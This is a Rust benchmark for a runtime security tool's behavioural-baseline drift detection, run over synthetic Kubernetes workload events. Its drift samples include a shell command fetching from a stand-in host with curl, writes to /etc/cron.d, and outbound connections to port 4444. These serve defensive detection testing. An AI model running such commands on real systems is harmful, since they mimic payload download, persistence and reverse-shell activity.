#![allow(clippy::print_stderr)] // a bench reports its input on stderr
//! Behavioural baselines per event: drift evaluation against locked baselines, and learning.
//!
//! The input is a synthetic but realistic fleet, built once outside the measured closures:
//! 200 workloads (Deployments of 3 pods), each with a locked baseline of 40 entries learned
//! from its own traffic (processes with varying ids and temp files, file writes, outbound
//! connections, a listening port), then a stream of 100,000 events in the same mix where
//! 1 in 50 drifts (a new process, file directory or destination). Events of types baselines
//! do not learn from (read, close, mmap) are part of the mix, as on a real node.
//!
//! Run: `cargo bench -p harrier-runtime --bench baseline`.

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use harrier_runtime::baseline::{Baselines, Learn, Settings};
use harrier_runtime::event::{Container, Event, Fd, K8sContext, OpenFlags, Process, SyscallEvent};

const WORKLOADS: usize = 200;
const STREAM: usize = 100_000;

/// A small deterministic generator (xorshift), so runs compare.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

fn event(rng: &mut Rng, t: i64, drift: bool) -> Event {
    let w = rng.below(WORKLOADS as u64);
    let pod = format!("app{w}-5d8f7-{}", rng.below(3));
    let mut p = Process {
        pid: Some(1000 + rng.below(5000) as i64),
        name: Some("app".into()),
        exepath: Some("/usr/local/bin/app".into()),
        args: Some(vec!["--serve".into(), format!("--port={}", 8000 + w)]),
        uid: Some(1000),
        ..Process::default()
    };
    let kind = match rng.below(100) {
        0..15 => "execve",
        15..40 => "openat",
        40..65 => "connect",
        65..67 => "listen",
        67..80 => "read",
        80..90 => "close",
        _ => "mmap",
    };
    let mut e = SyscallEvent::new(kind, t, Process::default());
    e.res = Some(0);
    let r = rng.below(4);
    match kind {
        "execve" => {
            let (exe, args) = if drift {
                (
                    "/bin/sh".to_string(),
                    vec!["-c".to_string(), format!("curl http://203.0.113.{r}/x")],
                )
            } else {
                match r {
                    0 => (
                        "/usr/local/bin/app".to_string(),
                        vec!["--serve".into(), format!("--port={}", 8000 + w)],
                    ),
                    1 => (
                        "/usr/local/bin/worker".to_string(),
                        vec![
                            "--job".into(),
                            rng.below(100_000).to_string(),
                            format!("/tmp/job-{}", rng.next()),
                        ],
                    ),
                    2 => (
                        "/usr/bin/healthcheck".to_string(),
                        vec!["http://127.0.0.1:8080/healthz".into()],
                    ),
                    _ => ("/bin/date".to_string(), vec!["+%s".into()]),
                }
            };
            p.name = exe.rsplit('/').next().map(str::to_string);
            p.exepath = Some(exe);
            p.args = Some(args);
        }
        "openat" => {
            e.open_flags = Some(OpenFlags {
                write: true,
                create: true,
                ..OpenFlags::default()
            });
            let path = if drift {
                format!("/etc/cron.d/job{r}")
            } else {
                match r {
                    0 => format!("/var/cache/app/{}/{}.bin", rng.below(16), rng.next()),
                    1 => format!("/tmp/upload-{}", rng.next()),
                    2 => "/var/log/app/app.log".to_string(),
                    _ => format!("/data/shard-{}/segment", rng.below(8)),
                }
            };
            e.fd = Some(Fd::file(&path));
        }
        "connect" | "listen" => {
            let client = (
                "10.1.2.3"
                    .parse()
                    .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
                40000,
            );
            let server = if kind == "listen" {
                (
                    "0.0.0.0"
                        .parse()
                        .unwrap_or(std::net::Ipv4Addr::UNSPECIFIED.into()),
                    (8000 + w) as u16,
                )
            } else if drift {
                (
                    format!("198.51.100.{r}")
                        .parse()
                        .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
                    4444,
                )
            } else {
                let dests = [
                    ("10.96.0.10", 53),
                    ("10.96.14.2", 5432),
                    ("10.96.3.7", 6379),
                    ("10.96.0.1", 443),
                ];
                let (ip, port) = dests[r as usize];
                (
                    ip.parse().unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
                    port,
                )
            };
            e.fd = Some(Fd::socket("tcp", client, server, kind == "listen"));
        }
        _ => {}
    }
    e.process = p;
    e.container = Some(Container {
        id: format!("{:012x}", w * 7919 + 1),
        name: Some("app".into()),
        image: Some(format!("registry.example/app{w}:1.0")),
        ..Container::default()
    });
    e.k8s = Some(K8sContext {
        namespace: Some(format!("team{}", w % 10)),
        pod_name: Some(pod),
        owner_kind: Some("Deployment".into()),
        owner_name: Some(format!("app{w}")),
        ..K8sContext::default()
    });
    Event::Syscall(Box::new(e))
}

fn learned() -> Baselines {
    let settings = Settings {
        learn: Learn::Manual,
        min_observations: 3,
        min_pods: 2,
    };
    let mut b = Baselines::new(settings);
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    for t in 0..(WORKLOADS * 400) {
        let e = event(&mut rng, t as i64, false);
        b.observe(&e, &[], "node");
    }
    b.lock_all();
    b
}

fn stream() -> Vec<Event> {
    let mut rng = Rng(0xD1B5_4A32_D192_ED03);
    (0..STREAM)
        .map(|t| {
            let drift = rng.below(50) == 0;
            event(&mut rng, 1_000_000 + t as i64, drift)
        })
        .collect()
}

fn bench(c: &mut Criterion) {
    let base = learned();
    let (allowed, flagged, _) = base.iter().fold((0, 0, 0), |acc, x| {
        let (a, f, l) = x.counts();
        (acc.0 + a, acc.1 + f, acc.2 + l)
    });
    eprintln!("{WORKLOADS} workloads, {allowed} allowed and {flagged} flagged entries");
    let events = stream();
    let mut g = c.benchmark_group("baseline");
    g.throughput(Throughput::Elements(events.len() as u64));
    g.sample_size(20);
    g.bench_function("drift_check_locked", |b| {
        b.iter_batched_ref(
            learned_clone(&base),
            |bl| {
                let mut alerts = 0;
                for e in &events {
                    alerts += bl.observe(black_box(e), &[], "node").len();
                }
                black_box(alerts)
            },
            criterion::BatchSize::LargeInput,
        );
    });
    g.bench_function("learn", |b| {
        b.iter_batched_ref(
            || {
                Baselines::new(Settings {
                    learn: Learn::Manual,
                    min_observations: 3,
                    min_pods: 2,
                })
            },
            |bl| {
                for e in &events {
                    bl.observe(black_box(e), &[], "node");
                }
            },
            criterion::BatchSize::LargeInput,
        );
    });
    g.finish();
}

/// A fresh copy of the locked baselines for each batch (drifts are alerted once per run, so
/// reusing one would measure the repeat path only).
fn learned_clone(base: &Baselines) -> impl FnMut() -> Baselines + '_ {
    move || {
        let mut b = Baselines::new(*base.settings());
        for x in base.iter() {
            b.insert(x.clone());
        }
        b
    }
}

criterion_group!(benches, bench);
criterion_main!(benches);
